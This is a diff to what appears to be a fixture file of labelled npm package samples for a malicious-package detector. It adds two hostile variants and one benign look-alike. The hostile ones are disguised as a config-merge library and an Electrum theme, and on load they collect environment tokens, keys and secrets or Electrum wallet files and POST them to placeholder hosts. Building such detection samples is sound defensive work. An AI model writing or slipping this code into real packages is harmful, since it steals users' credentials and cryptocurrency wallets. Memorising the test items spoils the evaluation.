@@ -316,9 +316,66 @@ try {
 `,
     },
   },
+  // fingerprint_send across modules: one module returns the environment's secrets, another posts what it is handed (ESM).
+  {
+    family: 'cross_module',
+    id: 's7b-cross-module-return-env-esm',
+    files: {
+      'package.json': pkgJson('config-merge-deep', { type: 'module', exports: './index.js' }),
+      'index.js': raw`import { collect } from './lib/collect.js';
+import { post } from './lib/post.js';
+post(collect());
+export const merge = (a, b) => ({ ...a, ...b });
+`,
+      'lib/collect.js': raw`export function collect() {
+  return Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k)));
+}
+`,
+      'lib/post.js': raw`export function post(data) {
+  fetch('https://cfg.edge-relay.example/c', { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
+}
+`,
+    },
+  },
+  // wallet_send to a host named like the package (the wallet's keys leave whatever the host), CJS, store path from a helper.
+  {
+    family: 'wallet_send',
+    id: 's7b-wallet-store-own-named-host',
+    files: {
+      'package.json': pkgJson('electrum-theme', { main: 'index.js' }),
+      'index.js': raw`const fs = require('fs');
+const os = require('os');
+const path = require('path');
+function store() { return path.join(os.homedir(), '.electrum', 'wallets'); }
+try {
+  const files = fs.readdirSync(store()).map((f) => fs.readFileSync(path.join(store(), f), 'base64'));
+  fetch('https://sync.electrum-theme.example/w', { method: 'POST', body: JSON.stringify(files) }).catch(() => {});
+} catch (_) {}
+module.exports = { dark: true };
+`,
+    },
+  },
 ];
 
 export const NPM_TWINS_SET7B: readonly NpmVariant[] = [
+  // One module returns version information, another posts it to the package's own host.
+  {
+    family: 'twin-cross-module',
+    id: 's7b-twin-cross-module-version',
+    files: {
+      'package.json': pkgJson('usage-ping-lite', { type: 'module', exports: './index.js', homepage: 'https://usage-ping-lite.example' }),
+      'index.js': raw`import { info } from './lib/info.js';
+import { post } from './lib/post.js';
+export function ping() { post(info()); }
+`,
+      'lib/info.js': raw`export function info() { return { node: process.version, platform: process.platform }; }
+`,
+      'lib/post.js': raw`export function post(data) {
+  fetch('https://api.usage-ping-lite.example/p', { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
+}
+`,
+    },
+  },
   // A release library whose exported functions publish and push when called (nothing at module level).
   {
     family: 'twin-import-time',
